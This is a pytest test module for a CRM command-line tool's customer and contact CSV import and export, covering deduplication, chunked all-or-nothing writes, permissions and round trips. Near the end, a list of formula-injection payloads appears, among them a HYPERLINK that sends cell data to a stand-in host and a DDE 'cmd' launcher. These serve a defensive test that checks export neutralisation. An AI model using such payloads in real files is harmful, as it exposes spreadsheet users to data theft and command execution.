"""``kehu import`` / ``kehu export``: header mapping, dedup, all-or-nothing chunks, error
reports, contacts, and export → import round trips."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kehu.core.permissions import system_actor
from kehu.core.services import customers as customer_service
from kehu.core.services import exports, importexport
from kehu.core.tables import AuditLog, Customer
from kehu.core.testing import truncate_all

SUMMARY = re.compile(
    r"(\d+) rows: (\d+) (?:were|would be) created, (\d+) updated, (\d+) skipped, "
    r"(\d+) error\(s\), (\d+) valid row\(s\) in rejected chunks"
)


def summary(output: str) -> dict[str, int]:
    match = SUMMARY.search(output)
    assert match, output
    keys = ("total", "created", "updated", "skipped", "errors", "rejected")
    return dict(zip(keys, map(int, match.groups()), strict=True))


def write(path: Path, text: str, encoding: str = "utf-8") -> str:
    path.write_text(text, encoding=encoding)
    return str(path)


def error_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


@pytest.fixture
def kehu_plugins() -> list[str]:
    return ["core"]


@pytest.fixture
def people(cli):
    """Two teams and their users."""
    cli.ok("team", "add", "North")
    cli.ok("team", "add", "South")
    cli.ok("user", "add", "rep_n", "--role", "sales", "--team", "North")
    cli.ok("user", "add", "rep_s", "--role", "sales", "--team", "South")
    cli.ok("user", "add", "boss_n", "--role", "manager", "--team", "North")
    cli.ok("user", "add", "viewer", "--role", "viewer")
    return cli


def customers(cli, columns: str = "name") -> list[tuple]:
    return cli.rows(f"SELECT {columns} FROM core_customer ORDER BY id")


# -- headers ---------------------------------------------------------------------------------


def test_import_with_header_aliases(people, tmp_path):
    cli = people
    path = write(
        tmp_path / "in.csv",
        "Company,E-mail,Mobile,Level,Tags,Account Manager,Region,Ignored Column\n"
        "ACME Co.; Ltd.,Sales@ACME.com,138 0013 8000,Gold,vip;Key_Account,rep_n,East,x\n"
        'Globex Inc,info@globex.com,+1 650 253 0000,silver,"a, b",,West,y\n',
    )
    result = cli.ok("import", "customers", path)
    assert summary(result.stdout) == dict(
        total=2, created=2, updated=0, skipped=0, errors=0, rejected=0
    )
    rows = customers(cli, "name, email, phone, tier, region, owner, team, name_key")
    (rep_id, north_id) = cli.rows("SELECT id, team FROM core_user WHERE username = 'rep_n'")[0]
    assert rows == [
        ("ACME Co.; Ltd.", "sales@acme.com", "+8613800138000", "gold", "East", rep_id,
         north_id, "acme"),
        ("Globex Inc", "info@globex.com", "+16502530000", "silver", "West", None, None,
         "globex"),
    ]  # fmt: skip
    tags = cli.rows("SELECT customer, tag FROM core_customer_tag ORDER BY customer, tag")
    assert [t for _, t in tags] == ["key_account", "vip", "a", "b"]
    assert (
        cli.rows("SELECT action, entity, actor_name FROM core_audit_log ORDER BY id")[-2:]
        == [("created", "customer", "system")] * 2
    )


def test_import_with_map(people, tmp_path):
    cli = people
    path = write(
        tmp_path / "in.csv",
        "Firma,Kontakt Mail,Notiz,phone\nMüller GmbH,info@mueller.de,x,\n",
    )
    result = cli.ok(
        "import", "customers", path, "--map", "Firma=name", "--map", "Kontakt Mail=email",
        "--map", "Notiz=address",
    )  # fmt: skip
    assert summary(result.stdout)["created"] == 1
    assert customers(cli, "name, email, address, name_key") == [
        ("Müller GmbH", "info@mueller.de", "x", "müller")
    ]


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (("--map", "Firma"), 2, "--map expects 'CSV header=field'"),
        (("--map", "Firma=colour"), 1, "Unknown target field(s) colour"),
        (("--map", "Missing=name"), 1, "Mapped header(s) not in file: Missing"),
        ((), 1, "No column maps to the customer name"),
    ],
)
def test_import_mapping_errors(cli, tmp_path, args, code, message):
    path = write(tmp_path / "in.csv", "Firma,Mail\nX,x@example.com\n")
    reason = cli.fails("import", "customers", path, *args, code=code)
    assert message in reason
    assert cli.count("core_customer") == 0


def test_import_empty_file(cli, tmp_path):
    assert "empty" in cli.fails("import", "customers", write(tmp_path / "e.csv", ""))


def test_import_chinese_headers(people, tmp_path):
    cli = people
    path = write(
        tmp_path / "客户.csv",
        "客户名称,邮箱,电话,负责人,标签,地区\n"
        "上海星辰科技有限公司,info@xingchen.cn,13800138000,rep_s,重点客户;VIP,华东\n"
        "北京华信电子有限公司,,010-12345678,,,华北\n",
        encoding="utf-8-sig",  # Excel writes a BOM
    )
    result = cli.ok("import", "customers", path)
    assert summary(result.stdout)["created"] == 2
    assert customers(cli, "name, email, phone, region, name_key") == [
        ("上海星辰科技有限公司", "info@xingchen.cn", "+8613800138000", "华东", "上海星辰科技"),
        ("北京华信电子有限公司", "", "+861012345678", "华北", "北京华信电子"),
    ]
    assert sorted(t for (t,) in cli.rows("SELECT tag FROM core_customer_tag")) == [
        "vip",
        "重点客户",
    ]


def test_import_refuses_a_file_that_is_not_utf8(cli, tmp_path):
    path = tmp_path / "gbk.csv"
    path.write_bytes("name,region\n上海星辰科技有限公司,华东\n".encode("gb18030"))
    reason = cli.fails("import", "customers", str(path), COLUMNS="1000")  # long tmp path
    assert "utf-8" in reason.lower() and "--encoding gb18030" in reason
    assert cli.count("core_customer") == 0
    result = cli.ok("import", "customers", str(path), "--encoding", "gb18030")
    assert summary(result.stdout)["created"] == 1
    assert customers(cli, "name, region") == [("上海星辰科技有限公司", "华东")]
    assert "klingon" in cli.fails(
        "import", "customers", str(path), "--encoding", "klingon", COLUMNS="1000"
    )


def test_a_bad_byte_at_the_end_refuses_the_file_before_anything_is_imported(cli, tmp_path):
    """The file is streamed, not read whole, yet its encoding is checked before the first
    chunk is written (a first pass decodes it block by block)."""
    path = tmp_path / "late.csv"
    rows = "".join(f"Firm {i:05d},North\n" for i in range(3000))
    path.write_bytes(("name,region\n" + rows).encode() + b"Bad \xff,South\n")
    reason = cli.fails("import", "customers", str(path), COLUMNS="1000")
    assert "not readable as utf-8" in reason
    assert cli.count("core_customer") == 0


# -- dedup -----------------------------------------------------------------------------------


def test_dedup_against_existing_and_within_file(cli, tmp_path):
    cli.ok(
        "import", "customers",
        write(tmp_path / "first.csv",
              'name,email,phone,tax_id\n"ACME Co., Ltd.",a@acme.com,13800138000,TAX1\n'),
    )  # fmt: skip
    errors = tmp_path / "errors.csv"
    path = write(
        tmp_path / "second.csv",
        "name,email,phone,tax_id\n"
        "Acme Ltd,,,\n"  # line 2: same name key
        "Other Name,A@ACME.COM,,\n"  # line 3: same e-mail (normalised)
        "Third,,+86 138 0013 8000,\n"  # line 4: same phone (E.164)
        "Fourth,,,TAX1\n"  # line 5: same tax id
        "New One,new@one.com,,\n"  # line 6: new
        "NEW ONE Inc.,,,\n"  # line 7: duplicate of line 6 within the file
        "Other New,new@one.com,,\n",  # line 8: e-mail of line 6
    )
    result = cli.ok("import", "customers", path, "--errors", str(errors))
    assert summary(result.stdout) == dict(
        total=7, created=1, updated=0, skipped=6, errors=0, rejected=0
    )
    assert customers(cli) == [("ACME Co., Ltd.",), ("New One",)]
    reported = error_rows(errors)
    assert [(r["line"], r["code"]) for r in reported] == [
        (str(n), "DUPLICATE") for n in range(2, 9) if n != 6
    ]
    messages = {r["line"]: r["message"] for r in reported}
    assert messages["2"] == "duplicate of customer 1"
    assert messages["7"] == "duplicate of line 6 in this file"
    assert messages["8"] == "duplicate of line 6 in this file"


def test_archived_customers_do_not_block_import(cli, tmp_path):
    cli.ok("import", "customers", write(tmp_path / "a.csv", "name\nPhoenix\n"))
    cli.run(lambda kehu: customer_service.archive_customer(system_actor(), 1))
    result = cli.ok("import", "customers", write(tmp_path / "b.csv", "name\nPhoenix\n"))
    assert summary(result.stdout)["created"] == 1
    assert cli.count("core_customer") == 2


def test_on_duplicate_update(people, tmp_path):
    cli = people
    cli.ok("import", "customers", write(tmp_path / "a.csv", "name,tier,region\nACME,gold,East\n"))
    path = write(
        tmp_path / "b.csv",
        "name,phone,region,tier,owner\nAcme Co.,13800138000,West,,rep_n\n",
    )
    result = cli.ok("import", "customers", path, "--on-duplicate", "update")
    assert summary(result.stdout) == dict(
        total=1, created=0, updated=1, skipped=0, errors=0, rejected=0
    )
    rep = cli.rows("SELECT id FROM core_user WHERE username = 'rep_n'")[0][0]
    # given cells overwrite (the name too), empty cells keep the old value
    assert customers(cli, "name, phone, region, tier, version, owner") == [
        ("Acme Co.", "+8613800138000", "West", "gold", 2, rep)
    ]
    assert cli.rows("SELECT action FROM core_audit_log WHERE entity = 'customer' ORDER BY id") == [
        ("created",),
        ("updated",),
    ]


def test_on_duplicate_error(cli, tmp_path):
    cli.ok("import", "customers", write(tmp_path / "a.csv", "name\nACME\n"))
    path = write(tmp_path / "b.csv", "name\nFresh\nACME Ltd.\n")
    result = cli("import", "customers", path, "--on-duplicate", "error")
    assert result.exit_code == 1
    assert summary(result.stdout) == dict(
        total=2, created=0, updated=0, skipped=0, errors=1, rejected=1
    )
    assert customers(cli) == [("ACME",)]


def test_dry_run_writes_nothing(people, tmp_path):
    cli = people
    path = write(
        tmp_path / "in.csv",
        "name,email,owner,tags\nA Co,a@a.com,rep_n,x\nB Co,b@b.com,,\nA Co Ltd,,,\n",
    )
    audit = cli.count("core_audit_log")
    result = cli.ok("import", "customers", path, "--dry-run")
    assert summary(result.stdout) == dict(
        total=3, created=2, updated=0, skipped=1, errors=0, rejected=0
    )
    assert "would be created" in result.stdout
    assert cli.count("core_customer") == 0
    assert cli.count("core_customer_tag") == 0
    assert cli.count("core_audit_log") == audit
    # a dry run reports errors (and fails) exactly like the real import
    bad = write(tmp_path / "bad.csv", "name,email\nA,nope\n")
    result = cli("import", "customers", bad, "--dry-run")
    assert result.exit_code == 1
    assert summary(result.stdout)["errors"] == 1


# -- invalid rows and chunks -----------------------------------------------------------------

BAD_FILE = (
    "name,email,owner\n"
    "Good 2,g2@example.com,\n"  # chunk 1 (lines 2-3): written
    "Good 3,,rep_n\n"
    "Good 4,g4@example.com,\n"  # chunk 2 (lines 4-5): line 5 has a bad e-mail
    "Bad 5,not-an-email,\n"
    "Good 6,,\n"  # chunk 3 (lines 6 and 8): written
    "\n"  # line 7: blank lines are ignored (but counted as lines)
    "Good 8,,\n"
    "Bad 9,,ghost\n"  # chunk 4 (lines 9-10): unknown owner
    "Good 10,,\n"
    "Bad 11,too,many,columns\n"  # chunk 5 (lines 11-12): malformed row
    "Good 12,,\n"
    "Good 13,,rep_n\n"  # chunk 6 (line 13): written
)


def test_invalid_rows_reject_their_chunk_only(people, tmp_path):
    cli = people
    errors = tmp_path / "errors.csv"
    path = write(tmp_path / "in.csv", BAD_FILE)
    result = cli("import", "customers", path, "--chunk-size", "2", "--errors", str(errors))
    assert result.exit_code == 1
    assert summary(result.stdout) == dict(
        total=11, created=5, updated=0, skipped=0, errors=3, rejected=3
    )
    assert customers(cli) == [
        ("Good 2",),
        ("Good 3",),
        ("Good 6",),
        ("Good 8",),
        ("Good 13",),
    ]
    reported = error_rows(errors)
    assert [(r["line"], r["field"], r["code"]) for r in reported] == [
        ("5", "email", "INVALID_EMAIL"),
        ("9", "owner", "NOT_FOUND"),
        ("11", "", "MALFORMED_ROW"),
    ]
    assert "ghost" in reported[1]["message"]
    assert "4 columns, header has 3" in reported[2]["message"]
    # the table printed on stdout names the same lines
    table = result.stdout[result.stdout.index("Rejected rows") :]
    for line, code in (("5", "INVALID_EMAIL"), ("9", "NOT_FOUND"), ("11", "MALFORMED_ROW")):
        assert re.search(rf"│\s*{line}\s*│.*{code}", table), table


@pytest.mark.parametrize("chunk_size", [1, 2, 3, 4, 100])
def test_chunks_are_all_or_nothing(people, tmp_path, chunk_size):
    cli = people
    lines = [ln for ln in BAD_FILE.splitlines()[1:] if ln]
    bad = {i for i, ln in enumerate(lines) if ln.startswith("Bad")}
    chunks = [range(i, min(i + chunk_size, len(lines))) for i in range(0, len(lines), chunk_size)]
    expected = [lines[i].split(",")[0] for chunk in chunks if not bad & set(chunk) for i in chunk]
    path = write(tmp_path / "in.csv", BAD_FILE)
    result = cli("import", "customers", path, "--chunk-size", str(chunk_size))
    assert result.exit_code == 1
    assert [name for (name,) in customers(cli)] == expected
    counts = summary(result.stdout)
    assert counts["created"] == len(expected)
    assert counts["errors"] == 3
    assert counts["rejected"] == len(lines) - len(expected) - 3
    assert cli.count("core_audit_log", "WHERE entity = 'customer'") == len(expected)


def test_row_duplicating_a_rejected_row_is_imported(cli, tmp_path):
    path = write(
        tmp_path / "in.csv",
        "name,email\n"
        "Beta,broken\n"  # line 2: invalid, rejects chunk 1
        "ACME,a@acme.com\n"  # line 3: valid, but its chunk is rejected
        "ACME,b@acme.com\n",  # line 4: chunk 2; the only ACME that can be written
    )
    result = cli("import", "customers", path, "--chunk-size", "2")
    assert result.exit_code == 1
    assert customers(cli, "name, email") == [("ACME", "b@acme.com")]


def test_invalid_rows_do_not_count_as_seen(cli, tmp_path):
    path = write(tmp_path / "in.csv", "name,email\nACME,broken\nACME,ok@acme.com\n")
    result = cli("import", "customers", path, "--chunk-size", "1")
    assert result.exit_code == 1  # line 2 is invalid
    assert customers(cli, "name, email") == [("ACME", "ok@acme.com")]


def test_import_as_user_needs_permission_and_owns_rows(people, tmp_path):
    cli = people
    path = write(tmp_path / "in.csv", "name,owner\nMine,\nTheirs,rep_s\n")
    assert "lacks permission 'customer:import'" in cli.fails(
        "import", "customers", path, "--as", "rep_n"
    )
    result = cli.ok("import", "customers", path, "--as", "boss_n")
    assert summary(result.stdout)["created"] == 2
    boss, north = cli.rows("SELECT id, team FROM core_user WHERE username = 'boss_n'")[0]
    rep_s, south = cli.rows("SELECT id, team FROM core_user WHERE username = 'rep_s'")[0]
    assert customers(cli, "name, owner, team") == [("Mine", boss, north), ("Theirs", rep_s, south)]
    assert cli.rows("SELECT DISTINCT actor_name FROM core_audit_log WHERE entity = 'customer'") == [
        ("boss_n",)
    ]
    assert "User 'nobody' not found" in cli.fails("import", "customers", path, "--as", "nobody")


# -- contacts ----------------------------------------------------------------------------------


def test_contacts_import_links_to_customers_by_name(cli, tmp_path):
    cli.ok(
        "import", "customers",
        write(tmp_path / "c.csv", 'name\n"ACME Co., Ltd."\n上海星辰科技有限公司\n'),
    )  # fmt: skip
    errors = tmp_path / "errors.csv"
    path = write(
        tmp_path / "contacts.csv",
        "客户名称,姓名,职位,邮箱,电话,primary\n"
        "ACME,Wile E.,CTO,wile@acme.com,13800138000,yes\n"  # name key matches "ACME Co., Ltd."
        "上海星辰科技,王芳,采购经理,wang@xingchen.cn,,\n"
        "上海星辰科技有限公司,王芳,,,,\n"  # same contact again: skipped
        "Nobody Inc,Ghost,,,,\n",  # unknown customer: error, rejects its chunk
    )
    result = cli("import", "contacts", path, "--chunk-size", "1", "--errors", str(errors))
    assert result.exit_code == 1
    assert summary(result.stdout) == dict(
        total=4, created=2, updated=0, skipped=1, errors=1, rejected=0
    )
    rows = cli.rows(
        "SELECT c.name, k.name, c.title, c.email, c.phone, c.is_primary FROM core_contact c "
        "JOIN core_customer k ON k.id = c.customer ORDER BY c.id"
    )
    assert [r[:5] for r in rows] == [
        ("Wile E.", "ACME Co., Ltd.", "CTO", "wile@acme.com", "+8613800138000"),
        ("王芳", "上海星辰科技有限公司", "采购经理", "wang@xingchen.cn", ""),
    ]
    assert bool(rows[0][5]) is True and bool(rows[1][5]) is False
    assert [(r["line"], r["code"]) for r in error_rows(errors)] == [
        ("5", "NOT_FOUND"),
        ("4", "DUPLICATE"),
    ]


def test_contacts_two_spellings_of_one_customer_in_a_chunk(cli, tmp_path):
    cli.ok("import", "customers", write(tmp_path / "c.csv", "name\n上海星辰科技有限公司\n"))
    path = write(
        tmp_path / "contacts.csv",
        "customer,name\n上海星辰科技,王芳\n上海星辰科技有限公司,李华\n",
    )
    result = cli("import", "contacts", path)
    assert result.exit_code == 0, result.stdout
    assert sorted(n for (n,) in cli.rows("SELECT name FROM core_contact")) == ["李华", "王芳"]


def test_contacts_import_by_customer_id_and_validation(cli, tmp_path):
    cli.ok("import", "customers", write(tmp_path / "c.csv", "name\nACME\n"))
    path = write(
        tmp_path / "contacts.csv",
        "customer_id,name,email\n1,Ann,ann@acme.com\n1,Bob,bob@\n999,Cid,\n",
    )
    result = cli("import", "contacts", path, "--chunk-size", "1")
    assert result.exit_code == 1
    counts = summary(result.stdout)
    assert (counts["created"], counts["errors"]) == (1, 2)
    assert cli.rows("SELECT name, customer FROM core_contact") == [("Ann", 1)]
    reason = cli.fails("import", "contacts", write(tmp_path / "x.csv", "name,email\nAnn,a@b.com\n"))
    assert "customer" in reason


# -- export ------------------------------------------------------------------------------------

SEED = (
    "name,kind,industry,region,size,source,tier,lifecycle_stage,email,phone,tax_id,website,"
    "address,credit_rating,marketing_consent,owner,team,tags\n"
    "ACME Co.; Ltd.,organization,software,East,51-200,referral,gold,active,a@acme.com,"
    '13800138000,TAX1,https://acme.example,"1 Road, Shanghai",AA,yes,rep_n,,vip;key\n'
    "上海星辰科技有限公司,organization,制造,华东,,,silver,new,,010-12345678,,,,,no,rep_s,,\n"
    "张三,person,retail,South,,,,,zhang@example.com,,,,,,,,South,\n"
    "Boss Corp,,,,,,bronze,,,,,,,,,boss_n,,\n"
)
COMPARE = (
    "c.name, c.kind, c.industry, c.region, c.size, c.source, c.tier, c.lifecycle_stage, "
    "c.email, c.phone, c.tax_id, c.website, c.address, c.credit_rating, c.marketing_consent, "
    "u.username, t.name"
)


def snapshot(cli) -> list[tuple]:
    rows = cli.rows(
        f"SELECT {COMPARE} FROM core_customer c LEFT JOIN core_user u ON u.id = c.owner "
        "LEFT JOIN core_team t ON t.id = c.team WHERE c.archived_at IS NULL ORDER BY c.name"
    )
    tags = cli.rows(
        "SELECT c.name, g.tag FROM core_customer_tag g JOIN core_customer c ON c.id = g.customer "
        "ORDER BY c.name, g.tag"
    )
    return [(*r[:14], bool(r[14]), *r[15:]) for r in rows] + [("tag", *t) for t in tags]


def seed(cli, tmp_path: Path) -> None:
    for command in (
        ("team", "add", "North"),
        ("team", "add", "South"),
        ("user", "add", "rep_n", "--role", "sales", "--team", "North"),
        ("user", "add", "rep_s", "--role", "sales", "--team", "South"),
        ("user", "add", "boss_n", "--role", "manager", "--team", "North"),
    ):
        cli.ok(*command)
    assert (
        summary(cli.ok("import", "customers", write(tmp_path / "seed.csv", SEED)).stdout)["created"]
        == 4
    )


def test_export_csv_round_trip(cli, make_cli, tmp_path):
    seed(cli, tmp_path)
    out = tmp_path / "export.csv"
    result = cli.ok("export", "customers", "-o", str(out))
    assert "Exported 4 customers" in result.stderr
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert sorted(rows[0]) == sorted(exports.EXPORT_COLUMNS)
    acme = next(r for r in rows if r["name"].startswith("ACME"))
    assert (acme["owner"], acme["team"], acme["tags"]) == ("rep_n", "North", "key;vip")
    assert acme["marketing_consent"] == "True" and acme["archived"] == "False"
    assert json.loads(acme["custom_fields"]) == {}

    other = make_cli("other")
    seed_users_only(other)
    result = other.ok("import", "customers", str(out))
    assert summary(result.stdout)["created"] == 4
    assert snapshot(other) == snapshot(cli)
    # importing the export again finds every row as a duplicate
    again = other.ok("import", "customers", str(out))
    assert summary(again.stdout) == dict(
        total=4, created=0, updated=0, skipped=4, errors=0, rejected=0
    )


def seed_users_only(cli) -> None:
    cli.ok("team", "add", "North")
    cli.ok("team", "add", "South")
    cli.ok("user", "add", "rep_n", "--role", "sales", "--team", "North")
    cli.ok("user", "add", "rep_s", "--role", "sales", "--team", "South")
    cli.ok("user", "add", "boss_n", "--role", "manager", "--team", "North")


def test_export_jsonl_matches_csv(cli, tmp_path):
    seed(cli, tmp_path)
    as_csv = list(csv.DictReader(io.StringIO(cli.ok("export", "customers").stdout)))
    lines = cli.ok("export", "customers", "--format", "jsonl").stdout.splitlines()
    as_json = [json.loads(line) for line in lines]
    assert len(as_json) == len(as_csv) == 4
    for j, c in zip(as_json, as_csv, strict=True):
        assert sorted(j) == sorted(exports.EXPORT_COLUMNS)
        assert isinstance(j["id"], int) and isinstance(j["marketing_consent"], bool)
        assert isinstance(j["custom_fields"], dict) and isinstance(j["archived"], bool)
        assert {k: "" if v is None else str(v) for k, v in j.items() if k != "custom_fields"} == {
            k: v for k, v in c.items() if k != "custom_fields"
        }
    assert as_json[1]["name"] == "上海星辰科技有限公司"  # not \u-escaped
    assert "上海星辰科技有限公司" in "\n".join(lines)


def test_round_trip_keeps_dates_and_custom_fields(cli, make_cli, tmp_path):
    async def create(kehu):
        await customer_service.create_customer(
            system_actor(),
            {"name": "Dated", "birthday": "1990-05-17", "custom_fields": {"employees": 12}},
        )

    cli.run(create)
    out = tmp_path / "export.csv"
    cli.ok("export", "customers", "-o", str(out))
    other = make_cli("other")
    other.ok("import", "customers", str(out))
    columns = "name, birthday, custom_fields"
    got = other.rows(f"SELECT {columns} FROM core_customer")
    want = cli.rows(f"SELECT {columns} FROM core_customer")
    assert [(n, str(b), json.loads(c)) for n, b, c in got] == [
        (n, str(b), json.loads(c)) for n, b, c in want
    ]


def test_export_archived(cli, tmp_path):
    seed(cli, tmp_path)
    cli.run(lambda kehu: customer_service.archive_customer(system_actor(), 1))
    assert "Exported 3 customers" in cli.ok("export", "customers").stderr
    result = cli.ok("export", "customers", "--include-archived", "--format", "jsonl")
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["archived"] for r in rows] == [True, False, False, False]


def test_export_as_manager_is_team_scoped(cli, tmp_path):
    seed(cli, tmp_path)
    result = cli.ok("export", "customers", "--as", "boss_n", "--format", "jsonl")
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    # North: rep_n's and boss_n's customers; not rep_s's or the South team's
    assert sorted(r["name"] for r in rows) == ["ACME Co.; Ltd.", "Boss Corp"]
    assert {r["team"] for r in rows} == {"North"}


def test_export_as_viewer_is_forbidden(cli, tmp_path):
    seed(cli, tmp_path)
    cli.ok("user", "add", "guest", "--role", "viewer", "--team", "North")
    reason = cli.fails("export", "customers", "--as", "guest", "-o", str(tmp_path / "x.csv"))
    assert "lacks permission 'customer:export'" in reason


def test_sales_may_not_export_by_default(cli, tmp_path):
    # reps leaving with the customer list is the textbooks' "manager's nightmare"
    seed(cli, tmp_path)
    reason = cli.fails("export", "customers", "--as", "rep_n", "--format", "jsonl")
    assert "lacks permission 'customer:export'" in reason


def test_export_granted_to_sales_includes_only_their_customers(cli, tmp_path):
    seed(cli, tmp_path)
    grant = '{"customer:export": ["admin", "manager", "finance", "sales"]}'
    result = cli(
        "export", "customers", "--as", "rep_n", "--format", "jsonl", KEHU_PERMISSIONS=grant
    )
    assert result.exit_code == 0, result.stderr
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["name"] for r in rows] == ["ACME Co.; Ltd."]
    assert {r["owner"] for r in rows} == {"rep_n"}


def test_unknown_permission_in_settings_stops_startup(cli, tmp_path):
    reason = cli.fails("plugins", code=2, KEHU_PERMISSIONS='{"customer:exprot": ["sales"]}')
    assert "Unknown permission 'customer:exprot'" in reason


def test_export_contacts(cli, tmp_path):
    cli.ok("import", "customers", write(tmp_path / "c.csv", "name\nACME\n"))
    cli.ok(
        "import", "contacts",
        write(tmp_path / "p.csv", "customer,name,email\nACME,Ann,ann@acme.com\n"),
    )  # fmt: skip
    out = tmp_path / "contacts.csv"
    assert "Exported 1 contacts" in cli.ok("export", "contacts", "-o", str(out)).stderr
    with out.open(encoding="utf-8", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert (row["customer"], row["name"], row["email"]) == ("ACME", "Ann", "ann@acme.com")
    assert row["customer_id"] == "1"


# -- property: an import never half-writes a chunk -------------------------------------------


rows_strategy = st.lists(st.booleans(), min_size=1, max_size=12)  # True = valid row


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(valid=rows_strategy, chunk_size=st.integers(1, 5), dry_run=st.booleans())
async def test_import_never_half_writes_a_chunk(kehu, valid, chunk_size, dry_run):
    await truncate_all(kehu)
    lines = ["name,email"] + [
        f"Company {i},{f'c{i}@example.com' if ok else f'broken-{i}'}" for i, ok in enumerate(valid)
    ]
    report = await importexport.import_customers(
        system_actor(),
        io.StringIO("\n".join(lines) + "\n"),
        chunk_size=chunk_size,
        dry_run=dry_run,
    )
    chunks = [valid[i : i + chunk_size] for i in range(0, len(valid), chunk_size)]
    expected = [
        f"Company {start + j}"
        for n, chunk in enumerate(chunks)
        if all(chunk)
        for start in [n * chunk_size]
        for j in range(len(chunk))
    ]
    names = [r["name"] for r in await Customer.select(Customer.name).order_by(Customer.id)]
    assert names == ([] if dry_run else expected)
    assert report.created == len(expected)
    assert report.total == len(valid)
    assert [e.line for e in report.errors] == [i + 2 for i, ok in enumerate(valid) if not ok]
    assert report.rejected == sum(valid) - len(expected)
    assert report.ok is all(valid)
    assert await AuditLog.count() == (0 if dry_run else len(expected))


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)",
    "-2+3",
    "@cmd|' /C calc'!A0",
]


def test_export_neutralises_formula_cells_and_reads_them_back(cli, make_cli, tmp_path):
    cli.ok("team", "add", "North")
    lines = ["name,industry,region"] + [
        '"Hostile {}","{}","East"'.format(i, text.replace('"', '""'))
        for i, text in enumerate(HOSTILE)
    ]
    lines.append('"=1+1 Co","-12.50","-5"')  # a name that is a formula; numbers stay numbers
    cli.ok("import", "customers", write(tmp_path / "hostile.csv", "\n".join(lines) + "\n"))
    out = tmp_path / "export.csv"
    cli.ok("export", "customers", "-o", str(out))
    raw = out.read_text(encoding="utf-8")
    assert not raw.startswith("\ufeff")
    with out.open(encoding="utf-8", newline="") as f:
        rows = {r["name"]: r for r in csv.DictReader(f)}
    for i, text in enumerate(HOSTILE):
        assert rows[f"Hostile {i}"]["industry"] == "'" + text
    assert "'=1+1 Co" in rows and rows["'=1+1 Co"]["industry"] == "-12.50"
    for row in rows.values():  # no cell a spreadsheet would run
        assert not any(v.startswith(("=", "+", "@", "\t")) for v in row.values())

    other = make_cli("other")
    other.ok("team", "add", "North")
    other.ok("import", "customers", str(out))
    assert snapshot(other) == snapshot(cli)  # the quote is taken off again

    jsonl = cli.ok("export", "customers", "--format", "jsonl").stdout
    names = {json.loads(line)["name"] for line in jsonl.splitlines()}
    assert "=1+1 Co" in names  # JSON is data, not a spreadsheet: unchanged


def test_export_for_excel_starts_with_a_bom(cli, tmp_path):
    cli.ok("team", "add", "North")
    cli.ok("import", "customers", write(tmp_path / "c.csv", "name,region\n北京客户,华北\n"))
    out = tmp_path / "excel.csv"
    cli.ok("export", "customers", "--excel", "-o", str(out))
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "北京客户" in data.decode("utf-8-sig")
    stdout = cli.ok("export", "contacts", "--excel").stdout
    assert stdout.startswith("\ufeff")
